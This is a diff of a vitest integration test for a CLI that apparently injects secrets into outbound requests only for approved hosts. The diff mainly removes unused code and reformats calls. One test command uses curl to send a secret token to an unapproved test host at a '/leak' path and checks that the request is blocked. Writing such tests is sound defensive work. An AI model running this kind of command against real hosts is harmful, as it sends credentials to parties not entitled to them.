@@ -9,8 +9,6 @@
  * is blocked and reported; over plain HTTP it is blocked; an upstream whose
  * certificate the test CA did not sign is refused.
  */
-import { writeFileSync } from 'node:fs';
-import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { cli, cliAsync, makeHome } from '../../helpers/cli.js';
 import { makeTestCa, startUpstreams, type TestCa, type Upstreams } from '../../helpers/tls-upstream.js';
@@ -31,7 +29,6 @@ beforeAll(async () => {
   rogue = makeTestCa(['tampered.test']);
   up = await startUpstreams(ca);
   tampered = await startUpstreams(rogue);
-  writeFileSync(join(ca.dir, 'unused'), '');
   env = {
     HEADSPACE_PROVIDER: 'native',
     HEADSPACE_TEST_RESOLVER_MAP: JSON.stringify({ 'api.test': '127.0.0.1', 'other.test': '127.0.0.1', 'tampered.test': '127.0.0.1' }),
@@ -78,11 +75,7 @@ describe.runIf(readiness.ready && process.getuid?.() === 0)(`secrets at egress o
 
   it('substitutes in a request body only when the secret opted in with :body', async () => {
     const body = (flag: string) =>
-      cliAsync(
-        home.home,
-        ['run', '--json', '--secret', flag, 'sec', 'sh', '-c', `curl -sS --data "token=$TOKEN" https://api.test:${up.httpsPort}/form`],
-        env,
-      );
+      cliAsync(home.home, ['run', '--json', '--secret', flag, 'sec', 'sh', '-c', `curl -sS --data "token=$TOKEN" https://api.test:${up.httpsPort}/form`], env);
     const plain = await body(`TOKEN@api.test:${up.httpsPort}`);
     expect(plain.code, plain.stdout + plain.stderr).toBe(0);
     expect(up.heard.filter((h) => h.url === '/form').at(-1)?.body).toMatch(/^token=hs-secret-TOKEN-/);
@@ -95,7 +88,16 @@ describe.runIf(readiness.ready && process.getuid?.() === 0)(`secrets at egress o
     const before = up.heard.length;
     const run = await cliAsync(
       home.home,
-      ['run', '--json', '--secret', `TOKEN@api.test:${up.httpsPort}`, 'sec', 'sh', '-c', `curl -sS -f -H "X-Key: $TOKEN" https://other.test:${up.httpsPort}/leak`],
+      [
+        'run',
+        '--json',
+        '--secret',
+        `TOKEN@api.test:${up.httpsPort}`,
+        'sec',
+        'sh',
+        '-c',
+        `curl -sS -f -H "X-Key: $TOKEN" https://other.test:${up.httpsPort}/leak`,
+      ],
       env,
     );
     expect(run.code).toBe(6);
